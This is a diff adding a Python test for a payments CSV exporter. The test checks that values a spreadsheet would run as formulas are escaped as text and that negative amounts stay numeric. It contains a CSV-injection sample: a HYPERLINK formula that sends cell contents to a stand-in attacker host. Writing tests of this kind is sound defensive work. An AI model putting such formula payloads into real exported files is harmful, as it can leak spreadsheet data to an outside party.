@@ -276,6 +276,19 @@ PAYMENTS = [
 ]
 
 
+def test_payments_csv_keeps_formulas_as_text_and_amounts_as_numbers() -> None:
+    """A bill_no or a place a spreadsheet would run (issue 14, finding 13) is written as text;
+    amounts are the gateway's own integers, so a negative one stays a number."""
+    link = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    attack = dataclasses.replace(PAYMENTS[0], bill_no=link, place="@SUM(A1:A9)", amount=-5400)
+    rows = read_csv(payments_csv([attack, PAYMENTS[1]], "utf-8"), "utf-8-sig")
+    record = dict(zip(PAYMENT_COLUMNS, rows[1], strict=True))
+    assert record["bill_no"] == "'" + link
+    assert record["place"] == "'@SUM(A1:A9)"
+    assert record["amount"] == "-5400"
+    assert rows[2][1] == ""  # no bill_no: an empty cell
+
+
 @pytest.mark.parametrize(("encoding", "codec"), [("utf-8", "utf-8-sig"), ("shift_jis", "cp932")])
 def test_payments_round_trip_from_a_generator(encoding: str, codec: str) -> None:
     consumed: list[str] = []
